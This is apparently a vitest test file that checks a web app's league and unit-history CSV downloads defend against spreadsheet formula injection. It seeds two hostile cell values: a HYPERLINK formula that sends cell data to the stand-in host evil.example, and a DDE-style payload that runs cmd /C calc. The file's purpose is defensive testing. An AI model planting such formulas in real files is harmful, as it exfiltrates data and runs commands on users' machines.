// The CSV downloads on a real SQLite file that holds hostile text: a cell that a spreadsheet
// would run as a formula comes out as text (a leading apostrophe), numbers stay numbers.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { GET as league } from './league/route';
import { GET as history } from './units/[code]/history/route';
import { createTestStore, type TestStore } from '@/db/testing/test-store';

const HOSTILE_NAME = '=HYPERLINK("http://evil.example/?d="&A1,"Hồ Chí Minh")';
const HOSTILE_REGION = '@SUM(1+1)*cmd|\' /C calc\'!A0';

let store: TestStore;
beforeAll(() => {
  store = createTestStore({ seed: true });
  // What a tampered store (or a later free-text column) would hand the export.
  store.sqlite.prepare(`UPDATE units SET name_vi = ?, region = ? WHERE edition = '2025' AND code = '79'`).run(HOSTILE_NAME, HOSTILE_REGION);
  process.env.DATABASE_URL = store.path;
});
afterAll(() => store.dispose());

const get = (path: string) => new Request(`http://localhost${path}`);
const body = async (response: Response) => (await response.text()).replace(/^\uFEFF/, '');

describe('CSV downloads and spreadsheet formulas', () => {
  it('the league CSV writes a stored formula-like name and region as text, and its figures as numbers', async () => {
    const response = league(get('/api/v1/league?edition=2025&format=csv&sort=code'));
    expect(response.status).toBe(200);
    const lines = (await body(response)).trim().split('\r\n');
    const row79 = lines.find((line) => line.startsWith('79,'));
    expect(row79).toBeDefined();
    expect(row79!.startsWith(`79,"'=HYPERLINK(""http://evil.example/?d=""&A1,""Hồ Chí Minh"")",'@SUM(1+1)*cmd|' /C calc'!A0,`)).toBe(true);
    // Every other cell of the file: none starts like a formula.
    const cells = lines.flatMap((line) => line.split(','));
    expect(cells.filter((cell) => /^"?[=+\-@\t\r]/.test(cell))).toEqual([]);
    // The figures are numbers, written as digits.
    expect(row79!).toMatch(/,\d+,\d+,\d+(\.\d+)?,/);
  });

  it('the history CSV of the same unit writes the stored name as text, then only dates and numbers', async () => {
    const response = await history(get('/api/v1/units/79/history?edition=2025&format=csv'), { params: Promise.resolve({ code: '79' }) });
    expect(response.status).toBe(200);
    const [, ...rows] = (await body(response)).trim().split('\r\n');
    expect(rows.length).toBeGreaterThan(100);
    const name = `79,"'=HYPERLINK(""http://evil.example/?d=""&A1,""Hồ Chí Minh"")",2025,`;
    for (const row of rows) {
      expect(row.startsWith(name)).toBe(true);
      expect(row.slice(name.length)).toMatch(/^\d{2}\/\d{2}\/\d{4}(,\d*)+$/);
    }
  });
});
